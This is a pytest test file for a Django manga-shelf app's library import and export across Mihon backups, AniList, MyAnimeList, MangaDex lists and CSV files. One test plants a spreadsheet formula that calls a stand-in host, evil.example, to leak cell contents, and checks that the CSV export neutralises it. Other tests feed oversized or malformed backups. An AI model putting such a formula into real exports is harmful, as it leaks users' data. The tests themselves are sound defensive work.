"""A reader brings their library in (a Mihon backup, AniList, MyAnimeList, a MangaDex list, Kenmei, a plain
file, batoshelf's own export) and takes it out: preview first, then the import in the background."""

import ast
import csv
import gzip
import io
import json
import re
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from google.protobuf import descriptor_pb2

from library import matching
from library import mihon_backup_pb2 as mihon
from library.entries import MAX_PROGRESS, Entry, LibraryRefused
from library.files import MANGADEX_SOURCE_IDS, mihon_source_id, read_library
from library.models import ImportEntry, LibraryImport
from notifications.models import LiveEvent, Notification
from readers.models import Follow, Shelf
from scraping.models import Title
from tests.conftest import logged_in, run_command
from tests.standins.trackers import AniListStandIn, MyAnimeListStandIn, anilist_entry, mal_entry

pytestmark = pytest.mark.django_db

MANGADEX_EN = mihon_source_id("MangaDex", "en")
UUID = "11111111-2222-4333-8444-555555555555"
OTHER_SOURCE = 1234567890123  # a source batoshelf does not follow (an aggregator's extension)


@pytest.fixture
def anilist(settings):
    with AniListStandIn() as server:
        settings.ANILIST_API_URL = server.api_url
        yield server


@pytest.fixture
def myanimelist(settings):
    with MyAnimeListStandIn() as server:
        settings.MAL_API_URL = server.api_url
        settings.MAL_CLIENT_ID = server.client_id
        yield server


def follow_of(user, title):
    return Follow.objects.select_related("title").prefetch_related("shelves").get(user=user, title__source_id=title)


def shelf_of(user):
    """What a reader would call their shelf: per title, status, progress, shelves and muted."""
    return {
        (f.title.source, f.title.source_id): (
            f.status,
            f.last_read_number,
            sorted(s.name for s in f.shelves.all()),
            f.muted,
        )
        for f in Follow.objects.filter(user=user).select_related("title").prefetch_related("shelves")
    }


def backup(*mangas, categories=(), gzipped=True):
    message = mihon.Backup(backupManga=list(mangas), backupCategories=list(categories))
    data = message.SerializeToString()
    return gzip.compress(data) if gzipped else data


def mangadex_backup(library, *names):
    """A Mihon backup of these stand-in titles, each as Mihon's MangaDex source keeps it."""
    return backup(*(mihon.BackupManga(source=MANGADEX_EN, url=f"/manga/{library[n].dex_id}", title=n) for n in names))


def upload(client, content, name="library.tachibk"):
    return client.post("/shelf/import/", {"kind": "file", "file": SimpleUploadedFile(name, content)})


def the_import(user):
    return LibraryImport.objects.filter(user=user).latest("created_at")


@pytest.fixture
def library(mangadex, mangaupdates):
    """Titles on the stand-ins as a reader's library names them."""
    return {
        "weekly": mangadex.add_title(name="Weekly Wonder", chapters=20),  # by its MangaDex id
        "tracked": mangaupdates.add_title(name="Tracked On Updates", releases=15),  # by its MangaUpdates id
        "anilisted": mangadex.add_title(name="Known To AniList", chapters=8, links={"al": "4242", "mal": "77"}),
        "named": mangadex.add_title(name="Only A Name", chapters=5, links=None),
    }


def test_a_mihon_backup_is_previewed_then_brought_in_with_progress_status_and_categories(
    reader, library, mangadex, mangaupdates, run_tasks
):
    weekly, tracked = library["weekly"], library["tracked"]
    content = backup(
        mihon.BackupManga(
            source=MANGADEX_EN,
            url=f"/manga/{weekly.dex_id}",
            title="Weekly Wonder",
            chapters=[
                mihon.BackupChapter(url=f"/chapter/{n}", name=f"Ch. {n}", read=n <= 12, chapterNumber=n)
                for n in range(1, 16)
            ],
            categories=[1],
        ),
        mihon.BackupManga(
            source=OTHER_SOURCE,
            url="/series/tracked-on-updates",
            title="Tracked On Updates",
            tracking=[
                mihon.BackupTracking(syncId=7, libraryId=0, mediaId=tracked.series_id, lastChapterRead=3, status=4)
            ],
        ),
        mihon.BackupManga(
            source=OTHER_SOURCE,
            url="/series/known",
            title="Known To AniList",
            tracking=[mihon.BackupTracking(syncId=2, libraryId=9, mediaId=4242, lastChapterRead=2, status=2)],
        ),
        mihon.BackupManga(source=OTHER_SOURCE, url="/series/only", title="Only A Name", categories=[2]),
        mihon.BackupManga(source=OTHER_SOURCE, url="/series/read-once", title="Read Once, Not Kept", favorite=False),
        categories=[mihon.BackupCategory(name="Weekly", order=1), mihon.BackupCategory(name="Later", order=2)],
    )
    client = logged_in(reader)
    with run_tasks():
        response = upload(client, content)
    imp = the_import(reader)
    assert response.status_code == 302 and response["Location"] == f"/shelf/import/{imp.pk}/"
    imp.refresh_from_db()
    assert (imp.state, imp.total, imp.described) == ("preview", 4, "Mihon or Tachiyomi backup")
    assert not Follow.objects.filter(user=reader).exists(), "nothing is followed before the reader confirms"

    page = client.get(f"/shelf/import/{imp.pk}/").content.decode()
    assert "1 to confirm" in page and "3 found" in page and "Only A Name" in page
    found = client.get(f"/shelf/import/{imp.pk}/", {"show": "matched"}).content.decode()
    assert "→ found on MangaDex" in found and "→ found on MangaUpdates" in found and "→ mangadex:" not in found
    uncertain = imp.entries.get(match="uncertain")
    assert uncertain.candidates[0]["source_id"] == library["named"].dex_id
    client.post(f"/shelf/import/{imp.pk}/choose", {"entry": uncertain.pk, "pick": "0"})

    with run_tasks():
        client.post(f"/shelf/import/{imp.pk}/confirm", {"keep_my_settings": "1"})
    imp.refresh_from_db()
    assert imp.state == "done"
    assert shelf_of(reader) == {
        ("mangadex", weekly.dex_id): ("reading", Decimal("12"), ["Weekly"], False),
        ("mangaupdates", str(tracked.series_id)): ("on_hold", Decimal("3"), [], False),
        ("mangadex", library["anilisted"].dex_id): ("completed", Decimal("2"), [], False),
        ("mangadex", library["named"].dex_id): ("reading", None, ["Later"], False),
    }
    assert follow_of(reader, weekly.dex_id).unread_count == 8, "20 chapters, read to 12"
    assert not Notification.objects.filter(user=reader, kind__in=["new_chapter", "batch"]).exists()
    summary = client.get(f"/shelf/import/{imp.pk}/").content.decode()
    assert "4 imported" in summary

    # The same backup again: everything is already there, nothing changes, nothing is fetched.
    requests_before = len(mangadex.api_requests())
    with run_tasks():
        upload(client, content)
    again = the_import(reader)
    assert again.state == "preview" and again.entries.filter(match="already").count() == 3
    with run_tasks():
        client.post(f"/shelf/import/{again.pk}/confirm", {"accept_uncertain": "1", "keep_my_settings": "1"})
    assert shelf_of(reader)[("mangadex", weekly.dex_id)] == ("reading", Decimal("12"), ["Weekly"], False)
    assert Follow.objects.filter(user=reader).count() == 4
    assert len(mangadex.api_requests()) - requests_before <= 3, "only the name search of the uncertain entry"


def test_every_step_of_an_import_tells_the_readers_pages_how_far_it_is(reader, library, run_tasks):
    content = backup(mihon.BackupManga(source=MANGADEX_EN, url=f"/manga/{library['weekly'].dex_id}", title="W"))
    with run_tasks():
        upload(logged_in(reader), content)
    events = [e.payload for e in LiveEvent.objects.filter(user=reader).order_by("pk") if e.payload["type"] == "import"]
    assert events[-1]["state"] == "preview" and events[-1]["total"] == 1


def test_a_progress_already_further_on_the_shelf_never_moves_back(reader, library, run_tasks):
    weekly = library["weekly"]
    client = logged_in(reader)
    with run_tasks():
        client.post("/shelf/add", {"title": f"mangadex:{weekly.dex_id}", "where": "at", "number": "15"})
    content = backup(
        mihon.BackupManga(
            source=MANGADEX_EN,
            url=f"/manga/{weekly.dex_id}",
            title="W",
            chapters=[mihon.BackupChapter(url="/c/1", name="1", read=True, chapterNumber=4)],
        )
    )
    with run_tasks():
        upload(client, content)
    imp = the_import(reader)
    with run_tasks():
        client.post(f"/shelf/import/{imp.pk}/confirm", {})  # the library's settings win, but progress only goes on
    assert follow_of(reader, weekly.dex_id).last_read_number == Decimal("15")


def test_an_anilist_list_brings_status_progress_and_custom_lists(reader, anilist, library, run_tasks):
    anilist.add_list(
        "someone",
        [
            anilist_entry(4242, "Known To AniList", idMal=77, status="PAUSED", progress=5, custom=("Favourites",)),
            anilist_entry(999, "Nowhere To Be Found", status="PLANNING"),
        ],
    )
    client = logged_in(reader)
    with run_tasks():
        client.post("/shelf/import/", {"kind": "anilist", "name": "someone"})
    imp = the_import(reader)
    imp.refresh_from_db()
    assert imp.state == "preview" and imp.requests >= 1
    assert imp.entries.get(match="matched").source_id == library["anilisted"].dex_id
    not_found = imp.entries.get(match="not_found")
    assert "Nowhere To Be Found" in not_found.tried
    with run_tasks():
        client.post(f"/shelf/import/{imp.pk}/confirm", {"keep_my_settings": "1"})
    assert shelf_of(reader) == {
        ("mangadex", library["anilisted"].dex_id): ("on_hold", Decimal("5"), ["Favourites"], False)
    }


@pytest.mark.parametrize(
    ("name", "said"),
    [("nobody", "AniList has no user “nobody”"), ("hidden", "list is private")],
)
def test_an_anilist_user_that_is_not_there_or_private_is_said_so(reader, anilist, name, said, run_tasks):
    anilist.add_list("hidden", [], private=True)
    client = logged_in(reader)
    with run_tasks():
        client.post("/shelf/import/", {"kind": "anilist", "name": name})
    imp = the_import(reader)
    imp.refresh_from_db()
    assert imp.state == "failed" and said in imp.error
    assert said in client.get(f"/shelf/import/{imp.pk}/").content.decode()


def test_myanimelist_needs_a_client_id_and_the_page_says_where_to_get_one(reader, settings):
    settings.MAL_CLIENT_ID = ""
    response = logged_in(reader).post("/shelf/import/", {"kind": "mal", "name": "someone"}, follow=True)
    assert "myanimelist.net/apiconfig" in response.content.decode()
    assert not LibraryImport.objects.exists()


def test_a_myanimelist_list_is_read_page_by_page(reader, myanimelist, library, run_tasks, monkeypatch):
    monkeypatch.setattr("library.trackers.MAL_PAGE", 1)
    monkeypatch.setattr("library.trackers.PAGE_GAP", 0)
    myanimelist.add_list(
        "someone",
        [mal_entry(77, "Known To AniList", num_chapters_read=3, status="completed"), mal_entry(5, "Only A Name")],
    )
    with run_tasks():
        logged_in(reader).post("/shelf/import/", {"kind": "mal", "name": "someone"})
    imp = the_import(reader)
    imp.refresh_from_db()
    assert imp.state == "preview" and imp.total == 2
    assert len([r for r in myanimelist.api_requests()]) == 2
    matched = imp.entries.get(match="matched")
    assert (matched.source_id, matched.given["progress"], matched.given["status"]) == (
        library["anilisted"].dex_id,
        "3.00",
        "completed",
    )


def test_a_public_mangadex_list_is_brought_in_and_a_private_one_is_refused(reader, mangadex, library, run_tasks):
    listed = mangadex.add_list("Mine", [library["weekly"].dex_id, library["named"].dex_id])
    hidden = mangadex.add_list("Secret", [library["weekly"].dex_id], visibility="private")
    client = logged_in(reader)
    with run_tasks():
        client.post("/shelf/import/", {"kind": "mangadex_list", "name": f"https://mangadex.org/list/{listed}/mine"})
    imp = the_import(reader)
    imp.refresh_from_db()
    assert imp.state == "preview" and imp.entries.filter(match="matched").count() == 2
    assert sorted(imp.entries.values_list("name", flat=True)) == ["Only A Name", "Weekly Wonder"]
    with run_tasks():
        client.post("/shelf/import/", {"kind": "mangadex_list", "name": f"https://mangadex.org/list/{hidden}"})
    failed = the_import(reader)
    failed.refresh_from_db()
    assert failed.state == "failed" and "no public list" in failed.error
    page = client.post("/shelf/import/", {"kind": "mangadex_list", "name": "https://mangadex.org/title/x"}, follow=True)
    assert "not a MangaDex list" in page.content.decode()


def test_a_kenmei_export_and_a_plain_file_are_read(reader, library, run_tasks):
    weekly = library["weekly"]
    kenmei = (
        "title,status,last_volume_read,last_chapter_read,series_url,score,notes,last_read_at\n"
        f'"Weekly Wonder",plan_to_read,,7,https://mangadex.org/title/{weekly.dex_id},0,,2026-11-01T12:00:00Z\n'
        '"Only A Name",dropped,,,,0,"",\n'
    ).encode()
    client = logged_in(reader)
    with run_tasks():
        upload(client, kenmei, "kenmei-export.csv")
    imp = the_import(reader)
    assert imp.described == "CSV (Kenmei's columns)"
    assert [e.given["status"] for e in imp.entries.all()] == ["planned", "dropped"]
    assert imp.entries.get(position=0).source_id == weekly.dex_id
    found = client.get(f"/shelf/import/{imp.pk}/?show=matched").content.decode()
    assert "· at chapter 7</span>" in found and "· plan to read</span>" in found  # not "7.00", "planned"
    plain = (
        f"# my titles\nhttps://mangadex.org/title/{weekly.dex_id}/weekly  # the weekly one\n\nnot a title\n".encode()
    )
    with run_tasks():
        upload(client, plain, "titles.txt")
    found, unreadable = the_import(reader).entries.order_by("position")
    assert found.source_id == weekly.dex_id
    assert (unreadable.match, unreadable.tried[:34]) == ("not_found", "line 4 is not a title's address or")


def test_the_summary_lists_what_was_left_out_and_why(reader, library, run_tasks):
    client = logged_in(reader)
    plain = f"https://mangadex.org/title/{library['weekly'].dex_id}\nnot a title at all\n".encode()
    with run_tasks():
        upload(client, plain, "titles.txt")
    imp = the_import(reader)
    with run_tasks():
        client.post(f"/shelf/import/{imp.pk}/confirm", {"keep_my_settings": "1"})
    done = client.get(f"/shelf/import/{imp.pk}/").content.decode()
    assert "1 imported" in done and "Left out" in done
    assert "not a title at all: not found (line 2 is not a title&#x27;s address or id" in done


def test_an_export_brought_into_a_fresh_account_gives_the_same_shelf(reader, other_reader, library, run_tasks):
    client = logged_in(reader)
    with run_tasks():
        client.post("/shelf/add", {"title": f"mangadex:{library['weekly'].dex_id}", "where": "at", "number": "12"})
        client.post("/shelf/add", {"title": f"mangadex:{library['named'].dex_id}", "where": "none"})
    client.post(
        f"/api/shelf/{Follow.objects.get(user=reader, title__source_id=library['weekly'].dex_id).title_id}",
        data={
            "status": "on_hold",
            "shelves": ["Weekly", "Best"],
            "notify_after_unread": 3,
            "groups_ignored": ["Bad Scans"],
        },
        content_type="application/json",
        REQUEST_METHOD="PATCH",
    )
    follow = Follow.objects.get(user=reader, title__source_id=library["weekly"].dex_id)
    Follow.objects.filter(pk=follow.pk).update(muted=True)
    exported = client.get("/shelf/export/?format=json")
    assert exported["Content-Disposition"] == 'attachment; filename="batoshelf-reader.json"'
    other = logged_in(other_reader)
    with run_tasks():
        upload(other, exported.content, "batoshelf-reader.json")
    with run_tasks():
        other.post(f"/shelf/import/{the_import(other_reader).pk}/confirm", {"keep_my_settings": "1"})
    assert shelf_of(other_reader) == shelf_of(reader)
    copied = Follow.objects.get(user=other_reader, title__source_id=library["weekly"].dex_id)
    assert (copied.notify_after_unread, copied.groups_ignored) == (3, ["Bad Scans"])

    csv_export = client.get("/shelf/export/?format=csv").content.decode()
    header, *rows = csv_export.splitlines()
    assert header.startswith("title,status,last_chapter_read,series_url") and len(rows) == 2


def test_the_csv_export_never_hands_a_spreadsheet_a_formula_and_reads_back_as_it_was(reader):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    title = Title.objects.create(source="mangadex", source_id=UUID, name=formula)
    follow = Follow.objects.create(user=reader, title=title)
    follow.shelves.add(Shelf.objects.create(user=reader, name="-Ring-"), Shelf.objects.create(user=reader, name="'Tis"))
    exported = logged_in(reader).get("/shelf/export/?format=csv").content.decode()
    [_, row] = list(csv.reader(io.StringIO(exported)))
    assert row[0] == "'" + formula and row[7] in ("'Tis;-Ring-", "'-Ring-;'Tis")  # the databases sort them apart
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
    _, [entry] = read_library(exported.encode())
    assert entry.names[0] == formula and sorted(entry.shelves) == ["'Tis", "-Ring-"]


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"\x00\x01\x02 not a library at all \xff\xfe" * 10, "neither a Mihon or Tachiyomi backup"),
        (gzip.compress(b"\xff" * 64), "neither a Mihon or Tachiyomi backup"),
        (b"\x1f\x8b\x08\x00garbage after the magic", "damaged or cut short"),
        (gzip.compress(b'{"version": 2, "mangas": []}'), "old Tachiyomi JSON backup"),
        (
            gzip.compress(descriptor_pb2.FileDescriptorProto(name="other.proto", package="x").SerializeToString()),
            "neither a Mihon or Tachiyomi backup",
        ),
        (
            gzip.compress(mihon.Backup(backupCategories=[mihon.BackupCategory(name="Empty")]).SerializeToString()),
            "holds no library",
        ),
        (b"name,score\nOne Piece,9\n", "no title column"),
        (b"", "The file is empty"),
        (json.dumps({"format": "someone-else"}).encode(), "not a batoshelf export"),
        (b"[" * 100_000 + b"]" * 100_000, "cannot be read"),
    ],
)
def test_a_bad_file_is_refused_with_a_clear_message_and_nothing_is_stored(reader, content, said):
    client = logged_in(reader)
    page = client.get(upload(client, content, "weird.bin")["Location"]).content.decode()
    assert said in page
    assert not LibraryImport.objects.exists() and not Follow.objects.exists()


@pytest.mark.parametrize("last_read", [1e30, "1e9999", 10**29, "3e38"])
def test_a_huge_progress_in_any_file_is_read_as_the_largest_chapter_not_a_crash(last_read):
    export = {
        "format": "batoshelf-library",
        "follows": [{"source": "mangadex", "source_id": UUID, "last_read": last_read}],
    }
    kenmei = f"title,status,last_chapter_read\nSome Title,reading,{last_read}\n"
    mangas = mihon.BackupManga(
        source=MANGADEX_EN,
        url=f"/manga/{UUID}",
        title="Some Title",
        chapters=[mihon.BackupChapter(url="/chapter/1", name="Ch. 1", read=True, chapterNumber=3e38)],
        tracking=[mihon.BackupTracking(syncId=2, libraryId=1, mediaId=1, lastChapterRead=float(last_read))],
    )
    for content in (json.dumps(export).encode(), kenmei.encode(), backup(mangas)):
        _, [entry] = read_library(content)
        assert entry.progress == MAX_PROGRESS, content[:40]


def test_titles_on_every_source_are_found_by_id_and_a_line_naming_none_is_listed_as_not_found():
    plain = "\n".join(
        ["bato:72315", f"https://mangadex.org/title/{UUID}", "https://example.com/not-a-title", "feed:https://x.org/f"]
    )
    _, entries = read_library(plain.encode())
    matches = [
        matching.match_entry(
            e, lambda *a: [], live={"mangadex": "MangaDex", "mangaupdates": "MangaUpdates"}, on_shelf=set()
        )
        for e in entries
    ]
    assert [(m.match, m.ref) for m in matches] == [
        ("matched", ("bato", "72315")),
        ("matched", ("mangadex", UUID)),
        ("not_found", None),
        ("matched", ("feed", "https://x.org/f")),
    ]
    assert matches[2].tried.startswith("line 3 is not a title's address or id on MangaDex, MangaUpdates, MANGA Plus")
    both = Entry(refs=(("bato", "1"), ("mangadex", UUID)))
    assert matching.match_entry(both, lambda *a: [], live={"mangadex": "MangaDex"}, on_shelf=set()).ref == (
        "mangadex",
        UUID,
    )


def test_an_export_whose_lists_are_not_lists_is_read_without_them():
    item = {"source": "mangadex", "source_id": UUID, "shelves": True, "names": 5, "languages": "en"}
    _, [entry] = read_library(json.dumps({"format": "batoshelf-library", "follows": [item]}).encode())
    assert entry.shelves == () and entry.refs == (("mangadex", UUID),)


def test_a_file_waits_while_others_are_read_and_is_refused_with_a_reason_if_it_waits_too_long(monkeypatch):
    from library import files

    monkeypatch.setattr(files, "READING_WAIT_SECONDS", 0.05)
    held = [files.READING_AT_ONCE.acquire(timeout=1) for _ in range(2)]  # two uploads being read
    try:
        with pytest.raises(LibraryRefused, match="Other libraries are being read right now"):
            read_library(b"bato:72315\n")
    finally:
        for _ in held:
            files.READING_AT_ONCE.release()
    assert read_library(b"bato:72315\n")[1][0].refs == (("bato", "72315"),), "its turn came"


@pytest.mark.parametrize(
    ("content", "said"),
    [
        # Two hundred thousand one-letter titles in 14 KB: parsed whole, gigabytes of memory.
        (gzip.compress(b"\x0a\x05\x1a\x01a\x40\x01" * 200_000), "more than 100,000 parts"),
        # One title whose record is 9 MB of empty chapters.
        (
            gzip.compress(b"\x0a\x80\x80\xc0\x04" + b"\x82\x01\x00" * (3 * 2**20)),
            "One title in this backup takes more than 8 MB",
        ),
        (gzip.compress(b"\x0a\x05\x1a\x01a\x40"), "neither a Mihon or Tachiyomi backup"),  # cut short in a title
    ],
)
def test_a_backup_made_to_take_gigabytes_is_refused_before_its_titles_are_read(reader, content, said):
    client = logged_in(reader)
    assert said in client.get(upload(client, content)["Location"]).content.decode()
    assert not LibraryImport.objects.exists()


def test_only_the_first_titles_up_to_the_limit_are_read(monkeypatch):
    from library import files

    monkeypatch.setattr(files, "MAX_ENTRIES", 3)
    mangas = [
        mihon.BackupManga(source=MANGADEX_EN, url=f"/manga/{UUID}", title=f"T{n}", favorite=True) for n in range(5)
    ]
    _, entries = read_library(backup(*mangas))
    assert [e.names[0] for e in entries] == ["T0", "T1", "T2"]
    _, entries = read_library(b"bato:72315\n" + b"not a title\n" * 10)
    assert len(entries) == 3 and entries[0].refs == (("bato", "72315"),)


def test_an_import_drops_such_characters_from_names_and_shelves():
    _, [entry] = read_library(b"title,shelves\nThe \xe2\x80\xaeName,We\x07ekly\n")
    assert entry.names == ("The Name",) and entry.shelves == ("Weekly",)


def test_a_file_over_the_limit_is_refused_before_it_is_read(reader):
    big = io.BytesIO(b"x" * (21 * 2**20))
    response = logged_in(reader).post(
        "/shelf/import/", {"kind": "file", "file": SimpleUploadedFile("big.tachibk", big.getvalue())}, follow=True
    )
    assert "larger than 20 MB" in response.content.decode() and not LibraryImport.objects.exists()


def test_a_reader_runs_one_import_at_a_time_and_the_next_waits_for_its_end(reader, other_reader, library, run_tasks):
    client = logged_in(reader)
    plain = f"mangadex:{library['weekly'].dex_id}\n".encode()
    with run_tasks():
        upload(client, plain, "first.txt")
    first = the_import(reader)
    with run_tasks():
        upload(client, plain, "second.txt")
    second = the_import(reader)
    assert first.state == second.state == LibraryImport.State.PREVIEW, "previews wait for the reader: no limit"
    client.post(f"/shelf/import/{first.pk}/confirm")  # queued, not run: under way
    refused = client.post(f"/shelf/import/{second.pk}/confirm", follow=True).content.decode()
    assert "Your import of first.txt is still under way (adding to your shelf)" in refused
    page = client.get(upload(client, plain, "third.txt")["Location"]).content.decode()
    assert "Your import of first.txt is still under way" in page and LibraryImport.objects.count() == 2
    with run_tasks():
        upload(logged_in(other_reader), plain, "theirs.txt")
    assert the_import(other_reader).state == LibraryImport.State.PREVIEW, "another reader's import is theirs"
    client.post(f"/shelf/import/{first.pk}/stop")
    LibraryImport.objects.filter(pk=first.pk).update(state=LibraryImport.State.STOPPED)  # its task saw the stop
    client.post(f"/shelf/import/{second.pk}/confirm")
    assert LibraryImport.objects.get(pk=second.pk).state == LibraryImport.State.IMPORTING


def test_a_title_found_by_id_shows_its_name_when_batoshelf_has_it_and_a_private_one_does_not(reader, run_tasks):
    Title.objects.create(source="mangadex", source_id=UUID, name="Known Already")
    Title.objects.create(source="feed", source_id="https://x.org/f", name="Someone's Private Feed")
    client = logged_in(reader)
    with run_tasks():
        upload(client, f"mangadex:{UUID}\nfeed:https://x.org/f\n".encode(), "list.txt")
    page = client.get(f"/shelf/import/{the_import(reader).pk}/", {"show": "matched"}).content.decode()
    assert "→ Known Already" in page and "→ found on Feed" in page
    assert "Private Feed" not in page


def test_the_preview_costs_the_same_queries_for_4_entries_a_tab_and_ten_times_as_many(reader):
    client = logged_in(reader)
    client.get("/shelf/")  # the session's first page keeps the time zone: not counted

    def costs(n):
        ImportEntry.objects.all().delete()
        LibraryImport.objects.all().delete()
        Title.objects.all().delete()
        preview = LibraryImport.objects.create(user=reader, kind="file", origin="x", state="preview", total=3 * n)
        found = [f"{k:08d}-2222-4333-8444-555555555555" for k in range(n)]
        Title.objects.bulk_create([Title(source="mangadex", source_id=i, name=f"T{i}") for i in found[::2]])
        candidate = {"source": "mangaupdates", "source_id": "1", "name": "C", "cover_url": "https://x.org/c.jpg"}
        rows = [dict(match="matched", source="mangadex", source_id=i) for i in found]
        rows += [dict(match="uncertain", candidates=[candidate, {**candidate, "source_id": "2"}])] * n
        rows += [dict(match="not_found", tried="searched")] * n
        ImportEntry.objects.bulk_create(
            [ImportEntry(library_import=preview, position=k, name=f"E{k}", **row) for k, row in enumerate(rows)]
        )
        spent = {}
        for show in ("matched", "uncertain", "not_found"):
            with CaptureQueriesContext(connection) as queries:
                assert client.get(f"/shelf/import/{preview.pk}/", {"show": show}).status_code == 200
            spent[show] = len(queries)
        return spent

    assert costs(40) == costs(4)


def test_another_readers_import_is_not_found(reader, other_reader, library, run_tasks):
    with run_tasks():
        upload(
            logged_in(reader),
            backup(mihon.BackupManga(source=MANGADEX_EN, url=f"/manga/{library['weekly'].dex_id}", title="W")),
        )
    imp = the_import(reader)
    other = logged_in(other_reader)
    assert other.get(f"/shelf/import/{imp.pk}/").status_code == 404
    assert other.post(f"/shelf/import/{imp.pk}/confirm").status_code == 404
    assert other.get(f"/api/imports/{imp.pk}").status_code == 404
    assert (
        other.post(f"/shelf/import/{imp.pk}/choose", {"entry": "99999999999999999999", "pick": "0"}).status_code == 404
    )
    # Its own reader, with digits int() cannot read ("²" is a digit to str.isdigit()): no answer is a 500.
    entry = imp.entries.get()
    for form in ({"entry": "²", "pick": "0"}, {"entry": str(entry.pk), "pick": "²"}):
        assert logged_in(reader).post(f"/shelf/import/{imp.pk}/choose", form).status_code in (302, 404), form


def test_an_import_can_be_stopped_and_keeps_what_it_did(reader, library, run_tasks, monkeypatch):
    content = mangadex_backup(library, "weekly", "named", "anilisted")
    client = logged_in(reader)
    with run_tasks():
        upload(client, content)
    imp = the_import(reader)
    from library import importing

    real_bring_in = importing.bring_in

    def stop_after_first(user, row, **kwargs):
        outcome = real_bring_in(user, row, **kwargs)
        importing.stop(imp)
        return outcome

    monkeypatch.setattr("library.importing.bring_in", stop_after_first)
    monkeypatch.setattr("library.importing.PROGRESS_EVERY", 0)
    with run_tasks():
        client.post(f"/shelf/import/{imp.pk}/confirm", {"keep_my_settings": "1"})
    imp.refresh_from_db()
    assert imp.state == "stopped" and Follow.objects.filter(user=reader).count() == 1
    assert "Stopped." in client.get(f"/shelf/import/{imp.pk}/").content.decode()


def test_a_long_import_goes_a_turn_at_a_time_and_every_turn_moves_it_on(reader, library, run_tasks, monkeypatch):
    """A task matches or imports for a turn, then queues the rest behind the work waiting: a library of
    thousands never runs into the cluster's timeout, nor holds a worker for hours."""
    monkeypatch.setattr("library.importing.TURN_SECONDS", 0)  # one entry a turn
    content = mangadex_backup(library, "weekly", "named", "anilisted")
    client = logged_in(reader)
    with run_tasks():
        upload(client, content)
    turns = [said for said in run_tasks.results if "another turn" in str(said)]
    assert len(turns) == 2 and "matched 1 of 3 so far" in turns[0], run_tasks.results
    imp = the_import(reader)
    assert imp.state == "preview" and imp.entries.filter(match="waiting").count() == 0
    with run_tasks():
        client.post(f"/shelf/import/{imp.pk}/confirm", {"keep_my_settings": "1"})
    assert sum("imported" in str(said) and "another turn" in str(said) for said in run_tasks.results) == 2
    imp.refresh_from_db()
    assert imp.state == "done" and Follow.objects.filter(user=reader).count() == 3


def test_a_worker_told_to_stop_ends_an_import_turn_after_the_entry_it_is_at(reader, library, run_tasks, monkeypatch):
    monkeypatch.setattr("library.importing.cluster_is_stopping", lambda: True)
    content = mangadex_backup(library, "weekly", "named")
    with run_tasks():
        upload(logged_in(reader), content)
    assert sum("another turn" in str(said) for said in run_tasks.results) == 1, "the rest waited for the next turn"
    assert the_import(reader).state == "preview"


def test_the_commands_preview_then_import_and_export(reader, library, tmp_path, run_tasks):
    path = tmp_path / "library.tachibk"
    path.write_bytes(
        backup(mihon.BackupManga(source=MANGADEX_EN, url=f"/manga/{library['weekly'].dex_id}", title="Weekly Wonder"))
    )
    out, _ = run_command("importlibrary", str(path), "--user", "reader")
    assert "found: Weekly Wonder → mangadex:" in out and "Nothing was followed" in out
    assert not Follow.objects.exists() and not LibraryImport.objects.exists()
    with run_tasks():
        out, err = run_command("importlibrary", str(path), "--user", "reader", "--yes")
    assert "Done: 1 imported" in out and "adding to the shelf: 1/1" in err
    json_out, _ = run_command("exportlibrary", "--user", "reader")
    assert json.loads(json_out)["follows"][0]["source_id"] == library["weekly"].dex_id


def test_mihon_names_mangadex_by_the_md5_of_its_name_language_and_version():
    assert mihon_source_id("MangaDex", "en") == 2499283573021220255
    assert {1411768577036936240, 2655149515337070132, 4938773340256184018} <= MANGADEX_SOURCE_IDS  # ja, pt-BR, es-419


def test_an_entry_with_nothing_batoshelf_can_search_for_is_not_found(reader, mangadex, mangaupdates, run_tasks):
    with run_tasks():
        upload(logged_in(reader), backup(mihon.BackupManga(source=OTHER_SOURCE, url="/x", title="Zzz No Such Title")))
    entry = ImportEntry.objects.get()
    assert entry.match == "not_found" and "Zzz No Such Title" in entry.tried


def test_the_committed_mihon_module_is_the_schema_compiled(tmp_path):
    from grpc_tools import protoc

    assert protoc.main(["protoc", "-Ilibrary", f"--python_out={tmp_path}", "library/mihon_backup.proto"]) == 0
    compiled = (tmp_path / "mihon_backup_pb2.py").read_text()
    serialized = re.search(r"AddSerializedFile\((b'.*?')\)\n", compiled).group(1)
    assert ast.literal_eval(serialized) == mihon.DESCRIPTOR.serialized_pb
